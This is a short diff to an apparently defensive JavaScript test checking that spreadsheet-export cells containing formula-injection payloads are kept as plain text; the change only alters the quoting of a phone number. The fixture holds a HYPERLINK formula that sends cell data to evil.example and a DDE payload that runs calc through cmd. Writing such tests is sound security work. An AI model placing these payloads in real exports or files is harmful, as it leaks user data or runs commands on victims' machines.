@@ -47,7 +47,7 @@ test('hostile cells come out as they went in, as text', async () => {
     'First name': '\'=HYPERLINK("http://evil.example?x="&A1,"Prize")',
     'Last name': "'@SUM(1+1)*cmd|' /C calc'!A0",
     Email: "'-2+3@mail.example",
-    Phone: "'+1 905 555 0142",
+    Phone: '+1 905 555 0142',
     Country: 'Canada',
     'Birth date': '1991-04-12',
     Courses: 'Violin; Music Business & Artiste Management (Online); Piano',
